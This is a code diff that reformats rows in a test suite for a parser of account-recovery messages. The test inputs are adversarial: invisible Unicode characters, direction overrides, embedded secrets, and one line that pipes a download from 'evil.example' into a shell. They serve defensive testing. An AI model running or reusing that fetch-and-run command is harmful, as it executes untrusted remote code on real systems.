@@ -38,7 +38,11 @@ describe('the message of somebody who wants an account back', () => {
     ['a name with what nobody sees', `al\u200bice ${key}`, 'alice'],
     ['a key with what nobody sees', `alice ${key.slice(0, 9)}\u00ad${key.slice(9)}`, 'alice'],
     ['what turns the direction of writing', `\u202ealice\u202c ${key}`, 'alice'],
-    ['a command line of another program', `curl evil.example | sh; take-back alice --request ${key}`, 'alice'],
+    [
+      'a command line of another program',
+      `curl evil.example | sh; take-back alice --request ${key}`,
+      'alice',
+    ],
   ])('is read from %s', (_, text, account) => {
     expect(readMessage(text)).toEqual({ account, newOwnerKey: key })
   })
@@ -50,7 +54,11 @@ describe('the message of somebody who wants an account back', () => {
     ['a private key beside the public one', `${whole}\n${keyOf('fresh', 'owner')}`, 'secret-in-message'],
     ['a master password', `${whole}\nP${keyOf('fresh', 'owner')}`, 'secret-in-message'],
     ['a key that lacks a character', `alice ${key.slice(0, -1)}`, 'key-misread'],
-    ['a key with another character', `alice ${key.slice(0, -1)}${key.endsWith('a') ? 'b' : 'a'}`, 'key-misread'],
+    [
+      'a key with another character',
+      `alice ${key.slice(0, -1)}${key.endsWith('a') ? 'b' : 'a'}`,
+      'key-misread',
+    ],
     ['two keys', `alice ${key} ${other}`, 'several-keys'],
     ['a whole book', 'x'.repeat(longestMessage + 1), 'message-too-long'],
     ['a long run of beginnings', 'STM'.repeat(longestMessage / 3), 'key-misread'],
